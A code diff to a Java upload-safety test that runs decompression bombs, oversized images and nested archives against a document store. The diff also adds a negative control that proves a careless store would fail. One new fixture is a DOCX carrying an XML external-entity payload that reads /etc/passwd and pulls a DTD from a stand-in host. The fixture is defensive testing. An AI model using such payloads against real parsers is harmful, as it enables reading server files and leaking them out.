@@ -4,14 +4,19 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
+import java.io.FilterInputStream;
 import java.io.IOException;
+import java.io.InputStream;
+import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.Objects;
 import java.util.Random;
+import java.util.UUID;
 import java.util.zip.GZIPOutputStream;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
@@ -46,21 +51,70 @@ class UploadCorpusTest {
   @Autowired private StoreDocument storing;
   @Autowired private Walk walk;
 
+  private final StoredDocument taken =
+      new StoredDocument(UUID.randomUUID(), "-", MediaKind.PDF, 1, "-", 1, null, null, 0, "-");
+
+  private interface Store {
+    StoredDocument take(InputStream content, String name, String authority);
+  }
+
+  /** What was wrong, and how many were taken and refused. */
+  private record Seen(List<String> wrong, int taken, int refused) {}
+
   @Test
   void everyOneIsRefusedOrMadeHarmlessSoon() throws IOException {
-    Map<String, byte[]> corpus = corpus();
+    Map<String, Content> corpus = corpus();
+    long before = live();
+    Seen seen = upload(corpus, storing::store);
+    long growth = live() - before;
+    System.out.printf(
+        "Uploads: %d files, %d refused, %d taken as plain papers, %d KB stayed%n",
+        corpus.size(), seen.refused, seen.taken, growth / 1024);
+    assertThat(corpus).hasSizeGreaterThan(200);
+    assertThat(seen.wrong).isEmpty();
+    assertThat(seen.refused).isGreaterThan(150);
+    assertThat(growth).isLessThan(MOST_GROWTH);
+  }
+
+  /** A house that goes by names, is slow, or holds what it is sent, would make this test red. */
+  @Test
+  void aHouseThatTakesWhatItGetsWouldBeNoticed() throws IOException {
+    Map<String, Content> all = corpus();
+    Map<String, Content> some = new LinkedHashMap<>();
+    for (String one : List.of("office with entity", "zip in zip 3", "many entries")) {
+      some.put(one, Objects.requireNonNull(all.get(one)));
+    }
+    List<byte[]> held = new ArrayList<>();
+    Seen seen =
+        upload(
+            some,
+            (content, name, authority) -> {
+              try {
+                held.add(content.readAllBytes());
+              } catch (IOException e) {
+                throw new UncheckedIOException(e);
+              }
+              return taken;
+            });
+    assertThat(held).hasSize(3);
+    assertThat(seen.wrong)
+        .anyMatch(line -> line.startsWith("office with entity was taken"))
+        .anyMatch(line -> line.startsWith("zip in zip 3 was taken"))
+        .anyMatch(line -> line.startsWith("many entries held"));
+  }
+
+  private Seen upload(Map<String, Content> corpus, Store store) throws IOException {
     String authority = walk.authority();
     List<String> wrong = new ArrayList<>();
-    int taken = 0;
+    int took = 0;
     int refused = 0;
-    long before = live();
-    for (Map.Entry<String, byte[]> one : corpus.entrySet()) {
-      String name = NAMES.get((taken + refused) % NAMES.size());
+    for (Map.Entry<String, Content> one : corpus.entrySet()) {
+      String name = NAMES.get((took + refused) % NAMES.size());
       long start = System.nanoTime();
-      try {
-        StoredDocument stored =
-            storing.store(new ByteArrayInputStream(one.getValue()), name, authority);
-        taken++;
+      Watched content = new Watched(one.getValue().open(), one.getKey().equals("many entries"));
+      try (content) {
+        StoredDocument stored = store.take(content, name, authority);
+        took++;
         if (mustBeRefused(one.getKey())) {
           wrong.add("%s was taken as %s".formatted(one.getKey(), stored.kind()));
         }
@@ -70,26 +124,84 @@ class UploadCorpusTest {
           wrong.add(one.getKey() + " is said back");
         }
       }
-      long took = System.nanoTime() - start;
-      if (took > LONGEST.toNanos()) {
-        wrong.add("%s took %d ms".formatted(one.getKey(), took / 1_000_000));
+      long spent = System.nanoTime() - start - content.looking;
+      if (spent > LONGEST.toNanos()) {
+        wrong.add("%s took %d ms".formatted(one.getKey(), spent / 1_000_000));
+      }
+      if (content.growth() > MOST_GROWTH) {
+        wrong.add("%s held %d MB".formatted(one.getKey(), content.growth() >> 20));
       }
     }
-    long growth = live() - before;
-    System.out.printf(
-        "Uploads: %d files, %d refused, %d taken as plain papers, %d KB stayed%n",
-        corpus.size(), refused, taken, growth / 1024);
-    assertThat(corpus).hasSizeGreaterThan(200);
-    assertThat(wrong).isEmpty();
-    assertThat(refused).isGreaterThan(150);
-    assertThat(growth).isLessThan(MOST_GROWTH);
+    return new Seen(wrong, took, refused);
+  }
+
+  /** A file that need not be in memory. */
+  private interface Content {
+    InputStream open() throws IOException;
+  }
+
+  /**
+   * Looks at the heap at each so many megabytes of what is read, and at the end of a large file.
+   */
+  private static final class Watched extends FilterInputStream {
+
+    private static final long EACH = 16L << 20;
+
+    private long read;
+    private long next = EACH;
+    private final long first;
+    private long most;
+    private long looking;
+
+    Watched(InputStream content, boolean large) {
+      super(content);
+      first = large ? live() : 0;
+    }
+
+    @Override
+    public int read() throws IOException {
+      int one = super.read();
+      count(one < 0 ? -1 : 1);
+      return one;
+    }
+
+    @Override
+    public int read(byte[] bytes, int offset, int length) throws IOException {
+      long start = System.nanoTime();
+      int n = super.read(bytes, offset, length);
+      looking += System.nanoTime() - start;
+      count(n);
+      return n;
+    }
+
+    private void count(int n) {
+      read += Math.max(0, n);
+      if (read >= next || (n < 0 && read >= EACH)) {
+        next += EACH;
+        long start = System.nanoTime();
+        long now = live();
+        looking += System.nanoTime() - start;
+        most = Math.max(most, now);
+      }
+    }
+
+    private long growth() {
+      return first == 0 ? 0 : most - first;
+    }
   }
 
   private static boolean mustBeRefused(String what) {
     return !what.startsWith("behind") && !what.startsWith("damaged");
   }
 
-  private static Map<String, byte[]> corpus() throws IOException {
+  private static Map<String, Content> corpus() throws IOException {
+    Map<String, Content> corpus = new LinkedHashMap<>();
+    small().forEach((what, bytes) -> corpus.put(what, () -> new ByteArrayInputStream(bytes)));
+    corpus.put("many entries", () -> new ManyEntries(1_000_000));
+    return corpus;
+  }
+
+  private static Map<String, byte[]> small() throws IOException {
     Map<String, byte[]> all = new LinkedHashMap<>();
     Map<String, byte[]> good =
         Map.of("pdf", Samples.pdf(1), "jpeg", Samples.jpeg(), "png", Samples.png());
@@ -99,7 +211,7 @@ class UploadCorpusTest {
       zip = zipped("inner-" + depth + ".zip", zip);
       all.put("zip in zip " + depth, zip);
     }
-    all.put("many entries", manyEntries());
+    all.put("office with entity", office());
     all.put("gzip", gzipped(new byte[1 << 20]));
     for (int size : new int[] {30_000, 50_000, 65_535, 1 << 20, Integer.MAX_VALUE}) {
       all.put("png claiming " + size, Samples.pngClaiming(size, size));
@@ -189,11 +301,39 @@ class UploadCorpusTest {
     return bytes.toByteArray();
   }
 
-  private static byte[] manyEntries() throws IOException {
+  /** A word processor's file whose text asks for a file of the house. */
+  private static byte[] office() throws IOException {
+    Map<String, String> parts = new LinkedHashMap<>();
+    parts.put(
+        "[Content_Types].xml",
+        """
+        <?xml version="1.0" encoding="UTF-8"?>
+        <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
+        <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
+        <Override PartName="/word/document.xml"
+          ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>
+        """);
+    parts.put(
+        "_rels/.rels",
+        """
+        <?xml version="1.0" encoding="UTF-8"?>
+        <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
+          Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
+          Target="word/document.xml"/></Relationships>
+        """);
+    parts.put(
+        "word/document.xml",
+        """
+        <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+        <!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://thu.invalid/y.dtd"> %y;]>
+        <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
+        <w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>
+        """);
     ByteArrayOutputStream bytes = new ByteArrayOutputStream();
     try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
-      for (int i = 0; i < 20_000; i++) {
-        zip.putNextEntry(new ZipEntry(Integer.toString(i)));
+      for (Map.Entry<String, String> part : parts.entrySet()) {
+        zip.putNextEntry(new ZipEntry(part.getKey()));
+        zip.write(utf8(part.getValue()));
       }
     }
     return bytes.toByteArray();
